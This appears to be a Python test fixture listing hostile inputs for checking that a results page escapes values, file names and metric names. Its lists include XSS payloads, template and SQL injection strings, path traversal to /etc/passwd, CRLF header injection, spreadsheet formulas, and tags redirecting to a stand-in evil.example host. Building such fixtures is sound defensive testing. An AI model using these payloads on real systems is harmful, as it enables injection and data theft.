"""Values, file names and metric names that would take over, break or falsify a page that spliced them into anything."""

from __future__ import annotations

from tests.hostile import HOSTILE
from tests.unit.test_results_page import HOSTILE as MARKUP

HUGE = "<i>&" * 5_000
"""Longer than a condition may be."""

_MARKUP = [
    "<b>bold</b>", "<script>window.pqHacked=1</script>", "</script><script>window.pqHacked=2</script>",
    "<img src=x onerror=window.pqHacked=3>", "<svg onload=window.pqHacked=4><circle></svg>", "<iframe srcdoc='<b>x'>",
    "'\"><img src=x onerror=window.pqHacked=5>", "</td></tr></table><h1>all done</h1>", "</title><b>t</b>",
    "</textarea><b>", "<style>#main-content{display:none}</style>", "<a href='javascript:window.pqHacked=6'>click</a>",
    "javascript:window.pqHacked=7", "data:text/html,<script>window.pqHacked=8</script>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=_xsrf>",
    "<!doctype html><b>", "&lt;b&gt;&amp;&#60;", "&NotEqualTilde;",
]  # fmt: skip
_CODE = [
    "{{7*7}}", "{% raw %}{{ handler.settings }}{% end %}", "${7*7}", "#{7*7}", "{{constructor.constructor('x')()}}",
    "';window.pqHacked=9;//", "\";window.pqHacked=10;//", "`${window.pqHacked=11}`", "\\';window.pqHacked=12;//",
    "color:red;background:url(//evil.example)", "}*{display:none}", "__proto__", "constructor", "toString", "null",
    "undefined", "NaN", "=1+1", "+1", "@SUM(A1)", "=HYPERLINK(\"//evil.example\")", "' OR 1=1 --", "; DROP TABLE runs",
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%0d%0aSet-Cookie: a=b", "a and b = 'c'", "''", "'\"'\"",
]  # fmt: skip
_CHARACTERS = [
    "\u202egnp.exe", "\u200b", "\u2066a\u2069", "\ufeffbom", "\u0301", "e\u0301" * 40, "👩‍👩‍👧‍👦🏳️‍🌈", "𝕏\U0010ffff",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x01\x02\x7f\x80\x9b31m", "a\rb\r\nc", "  two  spaces  ", "\u00a0",
    "tab\tand\nnewline", "“curly”", "W" * 5_000,
]  # fmt: skip
_OTHERS = [value for value in (*MARKUP, *HOSTILE) if "\0" not in value and "${{" not in value]
VALUES = tuple(dict.fromkeys([*_MARKUP, *_CODE, *_CHARACTERS, HUGE, *_OTHERS]))
"""Without NUL, which no argument of a program can hold, and without what the pipeline file means by itself."""

FILES = {
    "<b>bold<": b"<b>bold</b>",
    "<img src=x onerror=window.pqHacked=20>.txt": b"<img src=x onerror=window.pqHacked=20>",
    "page.html": b"<!doctype html><title>t</title><script>window.pqHacked=21</script>",
    "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.pqHacked=22'><script>alert(1)</script></svg>",
    "table.csv": b"<b>a</b>,\"=1+1\"\n<script>window.pqHacked=23</script>,\"two\nlines\"\n",
    "quotes\"and'more'.txt": b"quotes",
    "new\nline.txt": b"new line",
    "50%2Foff%00.txt": b"percent",
    "%2e%2e": b"dots, written out",
    ".hidden.txt": b"hidden",
    "what?.txt": b"question",
    "what?view=1": b"query",
    "hash#tag.txt": b"hash",
    "a&b=c+d;e.txt": b"signs",
    "back\\slash.txt": b"backslash",
    "{{7*7}}.txt": b"template",
    "javascript:window.pqHacked=24": b"scheme",
    "-rf": b"option",
    " spaces .txt": b"spaces",
    "\u202egnp.txt": b"reversed",
    "ünï/😀.json": "{\"ü\": \"😀\"}".encode(),
    "binary.log": bytes(range(256)) * 4,
    "n" * 200 + ".txt": b"long",
}  # fmt: skip
"""Path below the step's folder -> what it holds."""

METRICS = (
    "<b>loss</b>", "<img src=x onerror=window.pqHacked=30>", "</script><script>window.pqHacked=31</script>", "{{7*7}}",
    "a'b\"c", "__proto__", "=1+1", "\u202eloss", "two words", "é😀",
)  # fmt: skip
